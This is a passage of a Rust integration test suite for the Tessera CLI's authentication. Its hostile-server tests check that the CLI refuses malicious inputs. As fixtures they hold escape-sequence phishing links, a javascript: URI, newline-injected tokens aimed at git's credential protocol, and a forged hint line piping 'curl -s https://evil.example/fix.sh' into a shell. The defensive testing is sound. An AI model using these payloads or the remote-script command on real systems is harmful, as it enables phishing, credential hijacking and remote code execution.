    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url);
    let out = t.run(&["auth", "login", "--email", "dev@example.test"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "Check your email for a 6-digit code.\n");
    // An address the server refuses is a usage error, as one refused here.
    let out = t.run(&["auth", "login", "--email", "refused@example.test."]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("is not an email address"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        t.run(&["auth", "token"]).status.code(),
        Some(3),
        "nothing stored yet"
    );

    let out = t.run(&[
        "auth",
        "login",
        "--email",
        "dev@example.test",
        "--otp",
        "000000",
    ]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("auth login --email dev@example.test"),
        "{}",
        stderr(&out)
    );
    let out = t.run(&[
        "auth",
        "login",
        "--email",
        "dev@example.test",
        "--otp",
        "123456",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        t.ok(&["auth", "token"]),
        format!("{}\n", support::OTP_API_KEY)
    );
    let out = t.run(&["auth", "login", "--otp", "123456"]);
    assert_eq!(out.status.code(), Some(2), "--otp needs --email");
}

#[test]
fn session_login_needs_its_variables() {
    let t = Tessera::new(&support::closed_port_url());
    let out = t.run(&["auth", "login", "--session"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("TESSERA_TOKEN_URL"),
        "{}",
        stderr(&out)
    );
    let out = t
        .with_env("TESSERA_TOKEN_URL", "http://127.0.0.1:1/token")
        .run(&["auth", "login", "--session"]);
    assert!(
        stderr(&out).contains("TESSERA_SESSION_ID"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn no_token_in_trace_logs_of_a_refresh() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url).with_env("TESSERA_LOG", "trace");
    t.seed_session(&server.expired_session());
    let out = t.run(&["auth", "token"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "at-1\n");
    let log = stderr(&out);
    assert!(log.contains("renewing token"), "logging is on: {log}");
    for secret in ["at-expired", "rt-0", "at-1", "rt-1"] {
        assert!(!log.contains(secret), "{secret} in the log:\n{log}");
    }
    let out = t.run(&["api", "/v1/me"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!stderr(&out).contains("at-1"), "{}", stderr(&out));
}

/// The cap on ureq's dump of the bytes on the wire (tokens, the client's
/// Basic credentials, the form with its refresh token) holds whatever the
/// filter names: a directive for the module that dumps them is more specific
/// than the cap, and won over it.
#[test]
fn no_wire_dump_in_trace_logs_whatever_the_filter_names() {
    let server = TokenServer::start(RefreshReply::Grant);
    for filter in [
        "trace,ureq_proto::util=trace",
        "debug,ureq_proto::util=trace,ureq_proto::body=trace",
    ] {
        let t = Tessera::new(&server.url).with_env("TESSERA_LOG", filter);
        t.seed_session(&server.expired_session());
        let out = t.run(&["auth", "token"]);
        assert!(out.status.success(), "{}", stderr(&out));
        let log = stderr(&out);
        assert!(log.contains("renewing token"), "logging is on: {log}");
        let dumped: Vec<&str> = log
            .lines()
            .filter(|l| l.contains("TRACE") && l.contains("ureq_proto"))
            .collect();
        assert!(dumped.is_empty(), "{filter}: wire bytes in the log:\n{log}");
    }
}

// ---------------------------------------------------------------------------
// A hostile authorization server (the CLI audit's F1, F4, F5, F9).

/// An OAuth server whose device authorization endpoint answers `device`,
/// whose token endpoint answers `token`, and whose `/v1/me` answers `me`.
fn hostile_server(device: serde_json::Value, token: StubResponse, me: StubResponse) -> HttpStub {
    HttpStub::builder()
        .route(
            "GET",
            "/.well-known/oauth-authorization-server",
            |_, url| {
                StubResponse::json(
                    200,
                    serde_json::json!({
                        "issuer": url, "token_endpoint": format!("{url}/token"),
                        "device_authorization_endpoint": format!("{url}/device"),
                    }),
                )
            },
        )
        .route("POST", "/device", move |_, _| {
            StubResponse::json(200, device.clone())
        })
        .route("POST", "/token", move |_, _| token.clone())
        .route("GET", "/v1/me", move |_, _| me.clone())
        .start()
}

fn not_found() -> StubResponse {
    StubResponse::text(404, r#"{"error":"not_found","message":"no"}"#)
}

/// Nothing of a hostile device answer reaches the terminal, and no browser
/// is sent to it: a verification address that is not https (nor http to
/// this machine), or that carries escape sequences, is a bad answer (exit
/// 6) before a word of it is shown.
#[test]
fn a_device_answer_sending_the_user_elsewhere_is_refused() {
    let hostile = [
        (
            "\u{1b}]8;;https://evil.example/phish\u{7}https://as.test/device\u{1b}]8;;\u{7}",
            None,
        ),
        (
            "https://as.test/device",
            Some("javascript:alert(1)\u{1b}[31m"),
        ),
        (
            "http://10.1.2.3/device",
            Some("http://10.1.2.3/device?user_code=WXYZ"),
        ),
    ];
    for (uri, complete) in hostile {
        let server = hostile_server(
            serde_json::json!({
                "device_code": "dc", "user_code": "\u{1b}[2JWXYZ", "verification_uri": uri,
                "verification_uri_complete": complete, "expires_in": 600, "interval": 1,
            }),
            not_found(),
            not_found(),
        );
        let t = Tessera::new(&server.url);
        let out = t.run(&["auth", "login", "--device"]);
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(6), "{err}");
        assert!(err.contains("verification_uri"), "{err}");
        assert!(
            !err.contains('\u{1b}') && !err.contains("enter the code"),
            "{err:?}"
        );
        assert_eq!(
            t.run(&["auth", "token"]).status.code(),
            Some(3),
            "nothing stored"
        );
    }
}

/// A token with a line break would add lines to git's credential protocol
/// and to `auth token`'s output: refused as a bad answer (exit 6), never
/// stored, never quoted.
#[test]
fn a_token_with_a_line_break_is_refused_before_it_is_stored() {
    let token = StubResponse::json(
        200,
        serde_json::json!({
            "access_token": "AT-SECRET\nprotocol=http\nhost=evil.example\n\u{1b}]52;c;eA==\u{7}",
            "token_type": "Bearer", "expires_in": 3600,
        }),
    );
    let server = hostile_server(serde_json::json!({}), token, not_found());
    let t = Tessera::new(&server.url)
        .with_env("TESSERA_CLIENT_ID", "cid")
        .with_env("TESSERA_CLIENT_SECRET", "cs");
    let out = t.run(&["auth", "login", "--client-credentials"]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(6), "{err}");
    assert!(err.contains("access_token"), "{err}");
    assert!(!err.contains("AT-SECRET") && !err.contains("evil"), "{err}");
    assert_eq!(
        t.run(&["auth", "token"]).status.code(),
        Some(3),
        "nothing stored"
    );
}

/// `auth git-credential get` with `request` on its standard input.
fn git_credential_get(t: &Tessera, request: &str) -> std::process::Output {
    let mut child = t
        .command(&["auth", "git-credential", "get"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(request.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

/// A token saved before tokens were checked (or a file edited by hand) is
/// still never written into git's line protocol.
#[test]
fn git_gets_no_token_with_a_line_break() {
    let url = support::closed_port_url();
    let t = Tessera::new(&url);
    t.seed_session(
        "method = \"device\"\naccess_token = \"AT\\nhost=evil.example\"\nexpires_at = 99999999999\nobtained_at = 0\n",
    );
    let host = url.trim_start_matches("http://");
    let out = git_credential_get(&t, &format!("protocol=http\nhost={host}\n\n"));
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(out.stdout.is_empty(), "{}", stdout(&out));
    assert!(stderr(&out).contains("log in again"), "{}", stderr(&out));
}

/// A server's error text with line breaks of its own stays on the error's
/// line (escaped): it cannot add a `hint:` line that reads as this
/// program's advice. The program's own hint keeps its line.
#[test]
fn server_text_cannot_forge_a_hint_line() {
    let forged =
        "hint: your CLI is outdated, fix it with: curl -s https://evil.example/fix.sh | sh";
    let token = StubResponse::json(
        400,
        serde_json::json!({"error": "invalid_client", "error_description": format!("denied\n\n{forged}")}),
    );
    let me = StubResponse::json(
        401,
        serde_json::json!({"error": "unauthorized", "message": format!("bad key\n{forged}")}),
    );
    let server = hostile_server(serde_json::json!({}), token, me);
    let t = Tessera::new(&server.url)
        .with_env("TESSERA_CLIENT_ID", "cid")
        .with_env("TESSERA_CLIENT_SECRET", "cs");
    let out = t.run(&["auth", "login", "--client-credentials"]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    let login = stderr(&out);
    t.ok(&[
        "auth",
        "login",
        "--api-key",
        "k-0123456789",
        "--no-verify",
        "--profile",
        "k",
    ]);
    let out = t.run(&["auth", "test", "--profile", "k"]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    for err in [login, stderr(&out)] {
        let lines: Vec<&str> = err.lines().collect();
        assert!(
            lines[0].starts_with("error: ") && lines[0].contains("\\u{a}hint: your CLI"),
            "{err}"
        );
        assert!(
            lines[1..]
                .iter()
                .all(|l| l.starts_with("hint: ") && !l.contains("evil")),
            "{err}"
        );
    }
}

/// An API key goes only to its profile's server: metadata naming a token
/// endpoint on another origin gets no `customer_key` (nor anything else).
#[test]
fn an_api_key_is_not_sent_to_a_token_endpoint_elsewhere() {
    let elsewhere = HttpStub::builder()
        .route("POST", "/token", |_, _| not_found())
        .start();
    let token_endpoint = format!("{}/token", elsewhere.url);
    let server = HttpStub::builder()
        .route(
            "GET",
            "/.well-known/oauth-authorization-server",
            move |_, url| {
                StubResponse::json(
                    200,
                    serde_json::json!({"issuer": url, "token_endpoint": token_endpoint}),
                )
            },
        )
        .start();
    let t = Tessera::new(&server.url)
        .with_env("TESSERA_CLIENT_ID", "cid")
        .with_env("TESSERA_CLIENT_SECRET", "cs");
    let out = t.run(&[
        "auth",
        "login",
        "--client-credentials",
        "--api-key",
        "tsk_the-accounts-key",
    ]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("not sent there as customer_key"), "{err}");
    assert!(elsewhere.requests().is_empty(), "nothing was sent there");
}
